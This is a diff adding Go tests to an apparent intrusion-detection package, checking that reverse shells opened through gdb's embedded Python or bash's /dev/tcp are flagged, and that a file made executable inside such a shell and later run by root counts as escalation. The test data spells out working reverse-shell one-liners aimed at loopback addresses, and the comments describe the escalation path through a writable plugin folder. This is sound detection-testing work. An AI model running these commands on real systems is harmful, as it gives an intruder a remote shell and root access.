@@ -1,0 +1,68 @@
+package detect
+
+import (
+	"testing"
+	"time"
+)
+
+// TestCodeInArgvReverseShell: a program that runs code its command line
+// gives it (gdb -ex 'python …') is that code's interpreter: when the code
+// opens a socket and hands it a pty, its connect opens a channel, and the
+// commands typed into it run inside (shop-specsheet).
+func TestCodeInArgvReverseShell(t *testing.T) {
+	e, s := webShellScene(t)
+	code := `python import os,pty,socket;s=socket.create_connection(("127.0.0.1",4461));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")`
+	e.Observe(s.exec(210, 201, 33, "www-data", "/tmp", "/usr/bin/gdb", "gdb", "-nx", "-batch", "-ex", code), s.tree)
+	cn := s.connect(210, 201, 33, "/usr/bin/gdb", "127.0.0.1", 4461)
+	e.Observe(cn, s.tree)
+	if e.state.channels[cn.Proc] == nil {
+		t.Fatal("gdb's embedded python pty.spawn on its socket: no channel")
+	}
+	// a gdb whose code opens no socket is a debugger
+	e2, s2 := webShellScene(t)
+	e2.Observe(s2.exec(210, 201, 33, "www-data", "/tmp", "/usr/bin/gdb", "gdb", "-batch", "-ex", "bt", "-p", "99"), s2.tree)
+	cn2 := s2.connect(210, 201, 33, "/usr/bin/gdb", "127.0.0.1", 4461)
+	e2.Observe(cn2, s2.tree)
+	if e2.state.channels[cn2.Proc] != nil {
+		t.Error("a gdb backtrace's connect: a channel, want none")
+	}
+}
+
+// TestMadeRunnableInChannelRunByRoot: what the intruder types into a
+// reverse shell's pty leaves no argv for its redirections, but the chmod
+// that readies the file names it; root running it later is the
+// escalation (shop-specsheet: root's monitoring agent ran every plugin of
+// a folder the web account could write). The same chmod outside a channel
+// (an application readying its own script) marks nothing.
+func TestMadeRunnableInChannelRunByRoot(t *testing.T) {
+	for _, c := range []struct {
+		name    string
+		channel bool
+		mode    string
+		want    bool
+	}{
+		{"chmod 755 in a reverse shell", true, "755", true},
+		{"chmod +x in a reverse shell", true, "u+x", true},
+		{"chmod 644 in a reverse shell", true, "644", false},
+		{"chmod 755 by the application", false, "755", false},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			e, s := webShellScene(t)
+			parent := 201
+			if c.channel {
+				e.Observe(s.exec(210, 201, 33, "www-data", "/tmp", "/usr/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"), s.tree)
+				e.Observe(s.connect(210, 201, 33, "/usr/bin/bash", "127.0.0.1", 4444), s.tree)
+				parent = 210
+			}
+			plugin := "/usr/local/lib/agent/plugins/zz"
+			e.Observe(s.exec(220, parent, 33, "www-data", "/tmp", "/usr/bin/chmod", "chmod", c.mode, plugin), s.tree)
+			s.t = s.t.Add(time.Minute)
+			s.exec(300, 1, 0, "root", "/", "/usr/bin/socat", "socat", "TCP-LISTEN:6556,fork", "EXEC:/usr/local/bin/agent")
+			s.exec(301, 300, 0, "root", "/", "/usr/bin/dash", "/bin/sh", "/usr/local/bin/agent")
+			got := findingOf(e.Observe(s.exec(302, 301, 0, "root", "/", "/usr/bin/dash", "/bin/sh", plugin), s.tree), RulePlantedFileRun) != nil
+			if got != c.want {
+				t.Errorf("root running the plugin: planted-file-run %v, want %v", got, c.want)
+			}
+		})
+	}
+}
